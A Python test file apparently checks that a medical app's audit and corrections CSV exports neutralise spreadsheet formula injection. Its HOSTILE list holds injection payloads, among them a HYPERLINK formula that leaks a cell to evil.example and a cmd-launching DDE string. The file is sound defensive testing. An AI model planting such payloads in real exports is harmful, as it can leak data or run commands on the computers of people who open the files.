"""CSV exports open in a spreadsheet as data: hostile usernames, request ids and corrected
values come out behind a single quote (app.csv_export), on both exports."""

from __future__ import annotations

import csv
import io

import httpx
from support.http import TEST_PASSWORD, add_user, bearer, log_in, post_json
from support.inputs import case

from app.csv_export import FORMULA_STARTS

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_the_audit_export_neutralises_usernames_and_request_ids(service, client_as):
    hostile_user = "=1+1 admin"  # a real account whose name a spreadsheet would compute
    token = add_user(service.app.state.sessions, hostile_user, "clinician")
    with httpx.Client(base_url=service.url, headers=bearer(token)) as http:
        denied = http.get("/admin/audit", headers={"X-Request-ID": "@SUM(A1:A9)"})  # audited
        assert denied.status_code == 403
    with httpx.Client(base_url=service.url) as http:
        for username in HOSTILE:  # failed logins keep the name as typed
            assert log_in(http, username, "wrong password").status_code == 401

    exported = client_as("admin").get("/admin/audit.csv")
    assert exported.status_code == 200
    rows = read_csv(exported.text)
    assert_no_formula(rows)
    actors = {row["actor"] for row in rows}
    assert {"'" + name for name in HOSTILE} <= actors
    assert "'" + hostile_user in actors
    assert "'@SUM(A1:A9)" in {row["request_id"] for row in rows}
    # plain values are left alone
    assert "login" in {row["action"] for row in rows}
    assert all(row["at"][:1].isdigit() for row in rows)


def test_hostile_corrected_values_never_reach_the_corrections_export(service, client_as):
    """Corrections are the field's own codes only (a formula is refused at the door), and the
    CSV export still goes through the neutralising writer."""
    radiologist, admin = client_as("radiologist"), client_as("admin")
    created = post_json(client_as("clinician"), case().tolist(), k=3)
    assert created.status_code == 201
    body = created.json()
    evidence = body["explanation"]["fields"][0]
    url = f"/api/v1/explanations/{body['id']}/flags"
    for value in HOSTILE:
        refused = radiologist.post(
            url,
            json={"field": evidence["field"], "reason": "wrong_value", "corrected_value": value},
        )
        assert refused.status_code == 422, refused.text
        assert "allowed values" in refused.json()["detail"]
    valid = evidence["vote"]["value"]
    flag = radiologist.post(
        url, json={"field": evidence["field"], "reason": "wrong_value", "corrected_value": valid}
    )
    assert flag.status_code == 201, flag.text
    decided = admin.post(f"/api/v1/flags/{flag.json()['id']}/review", json={"decision": "accept"})
    assert decided.status_code == 200
    rows = read_csv(radiologist.get("/api/v1/corrections", params={"format": "csv"}).text)
    assert_no_formula(rows)
    mine = [row for row in rows if row["explanation_id"] == body["id"]]
    assert [row["corrected_value"] for row in mine] == [valid]


def test_a_session_login_with_a_hostile_name_is_exported_quoted(service, client_as):
    name = "-5+user"
    add_user(service.app.state.sessions, name, "radiologist")
    with httpx.Client(base_url=service.url) as http:
        assert log_in(http, name, TEST_PASSWORD).status_code == 303
    rows = read_csv(client_as("admin").get("/admin/audit.csv", params={"action": "login"}).text)
    assert ("'" + name, "success") in {(row["actor"], row["outcome"]) for row in rows}
    assert_no_formula(rows)
